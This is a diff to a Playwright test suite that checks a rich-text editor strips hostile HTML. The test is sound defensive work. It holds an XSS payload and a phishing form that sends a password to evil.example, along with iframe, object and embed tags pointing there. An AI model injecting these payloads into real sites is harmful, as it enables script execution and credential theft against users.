@@ -1,5 +1,6 @@
 import { expect, test, type Page } from '@playwright/test';
-import { apiCreatePost, apiGet, uniqueName } from './support/form-api';
+import { attachScreenshots } from './support/a11y';
+import { apiCreate, apiCreatePost, apiGet, uniqueName } from './support/form-api';
 import { bodyEditor, openForm, showValue } from './support/form-page';
 
 const PAYLOAD = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';
@@ -66,5 +67,44 @@ test.describe('HTML from the API or typed into the rich-text editor', () => {
     await expect(page).toHaveURL(`/posts/show/${id}`);
     await expect(showValue(page, 'Body').locator('strong')).toHaveText('rich');
     await expectInert(page);
+  });
+
+  test('stays out of the rich-text editor: no frame, object, embed or form of the value', async ({
+    page,
+    request,
+  }, testInfo) => {
+    // A login form of another origin, framed as Quill frames its videos, and its relatives.
+    const hostile =
+      '<p>Before the frame</p><iframe class="ql-video" src="https://evil.example/login"></iframe>' +
+      '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">' +
+      '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>' +
+      `<p>After the frame</p>${PAYLOAD}`;
+    const evil: string[] = [];
+    page.on('request', (r) => {
+      if (new URL(r.url()).hostname === 'evil.example') evil.push(r.url());
+    });
+    const post = await apiCreatePost(request, { body: hostile });
+    const comment = await apiCreate(request, 'comments', {
+      body: hostile,
+      post_id: post.id,
+      author: { name: uniqueName('Author') },
+    });
+    const embedded = 'iframe, object, embed, form, input, button, img, script';
+
+    // The posts body keeps HTML (sanitize(true)); the comments body keeps text (stripTags(true)).
+    for (const path of [`/posts/edit/${post.id}`, `/comments/edit/${comment.id}`]) {
+      await openForm(page, path);
+      await expect(bodyEditor(page)).toContainText('After the frame');
+      await expect(bodyEditor(page).locator(embedded)).toHaveCount(0);
+      await expect(page.locator('main iframe, main object, main embed')).toHaveCount(0);
+      await page.waitForLoadState('networkidle');
+      await expectInert(page);
+    }
+    await openForm(page, `/posts/edit/${post.id}`);
+    await attachScreenshots(page, testInfo, 'posts-edit-hostile-body', {
+      fullPage: false,
+      prepare: () => bodyEditor(page).scrollIntoViewIfNeeded(),
+    });
+    expect(evil).toEqual([]);
   });
 });
